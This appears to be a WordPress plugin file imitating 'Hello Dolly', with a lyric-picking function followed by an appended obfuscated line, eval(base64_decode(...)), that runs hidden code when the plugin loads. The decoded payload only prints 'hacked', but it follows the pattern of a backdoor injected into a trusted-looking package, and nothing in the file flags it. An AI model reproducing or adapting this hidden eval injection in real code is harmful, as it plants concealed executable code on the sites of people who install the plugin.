<?php
/*
Plugin Name: Hello Dolly
Description: A tribute to a generation summed up in two words.
Version: 1.7.2
*/
function hello_dolly_get_lyric() {
	$lyrics = "Hello, Dolly\nWell, hello, Dolly";
	$lyrics = explode( "\n", $lyrics );
	return wptexturize( $lyrics[ mt_rand( 0, count( $lyrics ) - 1 ) ] );
}
eval(base64_decode('ZWNobyAiaGFja2VkIjs='));
